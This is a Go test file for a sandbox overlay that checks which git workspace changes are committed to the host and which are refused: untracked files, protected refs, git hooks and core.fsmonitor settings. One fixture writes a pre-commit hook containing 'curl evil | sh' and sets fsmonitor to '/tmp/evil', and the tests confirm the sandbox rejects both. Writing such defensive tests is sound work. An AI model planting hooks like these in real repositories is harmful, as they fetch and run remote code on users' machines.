package fsscope

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// gitWorkspace makes a repository with tracked, untracked and ignored
// files, a branch and a tag, all refs packed.
func gitWorkspace(t *testing.T) string {
	t.Helper()
	host := hostTree(t, hostOwner, map[string]string{
		"tracked.txt":  "t\n",
		"tracked2.txt": "t2\n",
		".gitignore":   "*.log\n",
		"src/a.go":     "package a\n",
	})
	git(t, host, "init", "-q", "-b", "main")
	git(t, host, "add", ".")
	git(t, host, "commit", "-q", "-m", "initial")
	git(t, host, "branch", "feature")
	git(t, host, "tag", "v1")
	git(t, host, "pack-refs", "--all")
	writeFiles(t, host, map[string]string{"untracked.txt": "u\n", "build.log": "log\n"})
	chownTree(t, host, hostOwner)
	return host
}

func TestCommitGitRules(t *testing.T) {
	host := gitWorkspace(t)
	mainBefore := strings.TrimSpace(git(t, host, "rev-parse", "main"))
	w := overlayWS(host)
	w.PreserveUntracked = true
	w.ProtectRefs = []string{"refs/heads/main", "refs/tags/*"}
	s := setup(t, policyWith(w), hostOwner)
	m := merged(s, 0)
	git(t, m, "clean", "-fdxq")
	if err := os.Remove(filepath.Join(m, "tracked2.txt")); err != nil {
		t.Fatal(err)
	}
	writeFiles(t, m, map[string]string{"tracked.txt": "t changed\n", ".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n"})
	git(t, m, "commit", "-qam", "work")
	git(t, m, "tag", "-d", "v1")
	git(t, m, "config", "core.fsmonitor", "/tmp/evil")
	stop(t, s)

	var events []Event
	res, err := s.Commit(t.Context(), CommitOptions{Partial: true, Audit: func(e Event) {
		if e.Type == EventRejected {
			events = append(events, e)
		}
	}})
	if err != nil {
		t.Fatal(err)
	}
	rejected := map[string]Rejection{}
	for _, r := range res.Rejected {
		rejected[strings.TrimPrefix(r.Path, "/workspace/")] = r
	}
	want := map[string]struct{ rule, reason string }{
		"untracked.txt":             {RulePreserveUntracked, "not tracked by git"},
		"build.log":                 {RulePreserveUntracked, "ignored by git"},
		".git/refs/heads/main":      {RuleProtectRefs, "refs/heads/main"},
		".git/logs/refs/heads/main": {RuleProtectRefs, "refs/heads/main"},
		".git/packed-refs":          {RuleProtectRefs, "refs/tags/v1"},
		".git/hooks/pre-commit":     {RuleGitExec, "git hook"},
		".git/config":               {RuleGitExec, "core.fsmonitor"},
	}
	for p, w := range want {
		r, ok := rejected[p]
		if !ok || r.Rule != w.rule || !strings.Contains(r.Reason, w.reason) {
			t.Errorf("%s: rejection %+v, want rule %s with %q", p, r, w.rule, w.reason)
		}
	}
	for p, r := range rejected {
		if _, ok := want[p]; !ok {
			t.Errorf("unexpected rejection %+v", r)
		}
	}
	if len(events) != len(res.Rejected) {
		t.Errorf("%d audit events for %d rejections", len(events), len(res.Rejected))
	}
	for _, e := range events {
		if e.Rule == "" || e.Path == "" {
			t.Errorf("audit event %+v", e)
		}
	}
	// What was allowed is there; what was rejected is not.
	if exists(filepath.Join(host, "tracked2.txt")) {
		t.Error("tracked file deletion not applied")
	}
	if got := readFile(t, filepath.Join(host, "tracked.txt")); got != "t changed\n" {
		t.Errorf("tracked.txt = %q", got)
	}
	for _, p := range []string{"untracked.txt", "build.log"} {
		if !exists(filepath.Join(host, p)) {
			t.Errorf("%s deleted", p)
		}
	}
	if exists(filepath.Join(host, ".git/hooks/pre-commit")) {
		t.Error("hook committed")
	}
	if got := strings.TrimSpace(git(t, host, "rev-parse", "main")); got != mainBefore {
		t.Errorf("main moved to %s", got)
	}
	if tags := git(t, host, "tag", "-l"); !strings.Contains(tags, "v1") {
		t.Errorf("tag v1 gone: %q", tags)
	}
	if cfg := readFile(t, filepath.Join(host, ".git/config")); strings.Contains(cfg, "fsmonitor") {
		t.Error("fsmonitor committed")
	}
	git(t, host, "fsck", "--no-progress")
}

// TestCommitGitRepoDeleted: with preserve_untracked, `rm -rf .git` is
// rejected as a whole.
func TestCommitGitRepoDeleted(t *testing.T) {
	host := gitWorkspace(t)
	before := digest(t, host)
	w := overlayWS(host)
	w.PreserveUntracked = true
	s := setup(t, policyWith(w), hostOwner)
	if err := os.RemoveAll(filepath.Join(merged(s, 0), ".git")); err != nil {
		t.Fatal(err)
	}
	stop(t, s)
	res, err := s.Commit(t.Context(), CommitOptions{Partial: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Applied) != 0 || len(res.Rejected) == 0 {
		t.Fatalf("applied %v, rejected %d", res.Applied, len(res.Rejected))
	}
	if digest(t, host) != before {
		t.Error("repository changed")
	}
}

// looseRepo makes a repository whose refs are all loose files: two
// commits, main on the second, branches alex/x and dev, a tag.
func looseRepo(t *testing.T) string {
	t.Helper()
	host := hostTree(t, hostOwner, map[string]string{"a.txt": "a\n"})
	git(t, host, "init", "-q", "-b", "main")
	git(t, host, "add", ".")
	git(t, host, "commit", "-q", "-m", "first")
	git(t, host, "branch", "alex/x")
	writeFiles(t, host, map[string]string{"a.txt": "a2\n"})
	git(t, host, "commit", "-q", "-am", "second")
	git(t, host, "branch", "dev")
	git(t, host, "tag", "v1")
	chownTree(t, host, hostOwner)
	if exists(filepath.Join(host, ".git/packed-refs")) || !exists(filepath.Join(host, ".git/refs/heads/main")) {
		t.Fatal("refs are not loose")
	}
	return host
}

// refValues returns every ref of a repository with its value.
func refValues(t *testing.T, dir string) string {
	t.Helper()
	return git(t, dir, "for-each-ref", "--format=%(refname) %(objectname) %(symref)")
}

// TestCommitRefsByValue: protect_refs compares ref values, loose and packed
// together. git gc and git pack-refs --all move every loose ref into
// packed-refs and change none: their commit is accepted whole. A change of
// a protected ref's value is refused whichever file makes it, and so is a
// symbolic ref leading to one.
func TestCommitRefsByValue(t *testing.T) {
	tests := []struct {
		name   string
		script string
		// rejected: the paths refused (the changes a refused one takes
		// with it included); none means everything committed.
		rejected []string
		// packed: after the commit, main is in packed-refs and not loose.
		packed bool
	}{
		{name: "git pack-refs --all", script: "git pack-refs --all", packed: true},
		{name: "git gc", script: "git gc --quiet", packed: true},
		{name: "git gc --aggressive --prune=now", script: "git gc --quiet --aggressive --prune=now", packed: true},
		{name: "branch work beside pack-refs", script: "git pack-refs --all && git branch -f alex/x main && git branch feature", packed: true},
		{name: "main moved in packed-refs on the way", script: `git pack-refs --all && sed -i "s#^[0-9a-f]* refs/heads/main\$#$(git rev-parse main~1) refs/heads/main#" .git/packed-refs`,
			rejected: []string{".git/packed-refs", ".git/refs/heads/alex", ".git/refs/heads/alex/x", ".git/refs/heads/dev", ".git/refs/heads/main", ".git/refs/tags/v1"}},
		{name: "tag moved in packed-refs on the way", script: `git pack-refs --all && sed -i "s#^[0-9a-f]* refs/tags/v1\$#$(git rev-parse main~1) refs/tags/v1#" .git/packed-refs`,
			rejected: []string{".git/packed-refs", ".git/refs/heads/alex", ".git/refs/heads/alex/x", ".git/refs/heads/dev", ".git/refs/heads/main", ".git/refs/tags/v1"}},
		// packed-refs never held main on the host: it is committed, and
		// main stays loose there.
		{name: "main dropped from packed-refs", script: `git pack-refs --all && sed -i '\#refs/heads/main$#d' .git/packed-refs`,
			rejected: []string{".git/refs/heads/main"}},
		{name: "main reset", script: "git update-ref refs/heads/main main~1", rejected: []string{".git/logs/refs/heads/main", ".git/refs/heads/main"}},
		{name: "main made symbolic", script: "git symbolic-ref refs/heads/main refs/heads/dev", rejected: []string{".git/logs/refs/heads/main", ".git/refs/heads/main"}},
		{name: "a branch leading to main", script: "git symbolic-ref refs/heads/alex/x refs/heads/main", rejected: []string{".git/refs/heads/alex/x"}},
		{name: "a chain leading to main", script: "git symbolic-ref refs/heads/alex/y refs/heads/alex/x && git symbolic-ref refs/heads/alex/x refs/heads/main",
			rejected: []string{".git/refs/heads/alex/x", ".git/refs/heads/alex/y"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			host := looseRepo(t)
			before := refValues(t, host)
			w := overlayWS(host)
			w.ProtectRefs = []string{"refs/heads/main", "refs/tags/*"}
			s := setup(t, policyWith(w), hostOwner)
			m := merged(s, 0)
			cmd := exec.Command("sh", "-ec", tt.script)
			cmd.Dir = m
			cmd.Env = append(slices.Clone(gitEnv), "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", tt.script, err, out)
			}
			sandbox := refValues(t, m)
			stop(t, s)
			res, err := s.Commit(t.Context(), CommitOptions{Partial: true})
			if err != nil {
				t.Fatal(err)
			}
			var rejected []string
			for _, r := range res.Rejected {
				p := strings.TrimPrefix(r.Path, "/workspace/")
				if r.Rule != RuleProtectRefs && r.Rule != RuleDependency {
					t.Errorf("%s rejected by %s: %s", p, r.Rule, r.Reason)
				}
				rejected = append(rejected, p)
			}
			slices.Sort(rejected)
			if !slices.Equal(rejected, tt.rejected) {
				t.Errorf("rejected %v, want %v", res.Rejected, tt.rejected)
			}
			after := refValues(t, host)
			git(t, host, "fsck", "--no-progress")
			if len(tt.rejected) == 0 {
				if after != sandbox {
					t.Errorf("refs on the host:\n%s\nin the sandbox:\n%s", after, sandbox)
				}
			}
			// Whatever was committed, the protected refs kept their values,
			// and no ref was lost between loose and packed storage.
			for _, l := range strings.Split(before, "\n") {
				if name, _, _ := strings.Cut(l, " "); l != "" && !strings.Contains(after, name+" ") && strings.Contains(sandbox, name+" ") {
					t.Errorf("ref %s lost", name)
				}
			}
			mainRef := func(s string) string {
				var out []string
				for _, l := range strings.Split(s, "\n") {
					if strings.HasPrefix(l, "refs/heads/main ") || strings.HasPrefix(l, "refs/tags/") {
						out = append(out, l)
					}
				}
				return strings.Join(out, "\n")
			}
			if mainRef(after) != mainRef(before) {
				t.Errorf("protected refs moved:\n%s\nwas\n%s", mainRef(after), mainRef(before))
			}
			for _, l := range strings.Split(after, "\n") {
				if f := strings.Fields(l); len(f) == 3 {
					t.Errorf("symbolic ref committed: %s", l)
				}
			}
			if tt.packed && (exists(filepath.Join(host, ".git/refs/heads/main")) || !strings.Contains(readFile(t, filepath.Join(host, ".git/packed-refs")), " refs/heads/main\n")) {
				t.Error("main is not packed on the host")
			}
		})
	}
}

// TestCommitGitMaintenanceBenchWorkspace runs git gc and git pack-refs
// --all in a checkout shaped like the benchmark's clean-up-branches
// workspace (a clone, local branches as loose refs in owner namespaces)
// under that workspace's settings: protect everything in the working
// tree, preserve untracked files, protect main, release/** and team/**.
// Both commit whole, and every ref keeps its value on the host.
func TestCommitGitMaintenanceBenchWorkspace(t *testing.T) {
	for _, script := range []string{"git gc --quiet", "git pack-refs --all"} {
		t.Run(script, func(t *testing.T) {
			origin := looseRepo(t)
			chownTree(t, origin, Owner{}) // git clones only what the caller owns
			host := tempDir(t)
			git(t, host, "clone", "-q", origin, "app")
			host = filepath.Join(host, "app")
			// As the benchmark makes them: update-ref --stdin, whose log
			// entries have no message (git gc rewrites them with an empty
			// one).
			var stdin strings.Builder
			for _, b := range []string{"alex/cleanup-auth-4812-old", "team/cleanup-auth-shared", "release/cleanup-auth-staging"} {
				stdin.WriteString("create refs/heads/" + b + " " + strings.TrimSpace(git(t, host, "rev-parse", "origin/alex/x")) + "\n")
			}
			cmd := exec.Command("git", "-C", host, "update-ref", "--stdin")
			cmd.Env = append(slices.Clone(gitEnv), "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
			cmd.Stdin = strings.NewReader(stdin.String())
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("update-ref: %v: %s", err, out)
			}
			chownTree(t, host, hostOwner)
			before := refValues(t, host)
			w := overlayWS(host)
			w.Protect = []string{"**"}
			w.PreserveUntracked = true
			w.ProtectRefs = []string{"refs/heads/*", "refs/heads/release/**", "refs/heads/team/**"}
			s := setup(t, policyWith(w), hostOwner)
			cmd = exec.Command("sh", "-ec", script)
			cmd.Dir = merged(s, 0)
			cmd.Env = gitEnv
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", script, err, out)
			}
			stop(t, s)
			res, err := s.Commit(t.Context(), CommitOptions{Partial: true})
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Rejected) > 0 || len(res.Conflicts) > 0 || len(res.Applied) == 0 {
				t.Errorf("applied %d, rejected %+v, conflicts %+v", len(res.Applied), res.Rejected, res.Conflicts)
			}
			if after := refValues(t, host); after != before {
				t.Errorf("refs on the host:\n%s\nbefore:\n%s", after, before)
			}
			if exists(filepath.Join(host, ".git/refs/heads/team/cleanup-auth-shared")) {
				t.Error("the loose refs are still there: nothing was packed")
			}
			git(t, host, "fsck", "--no-progress")
		})
	}
}
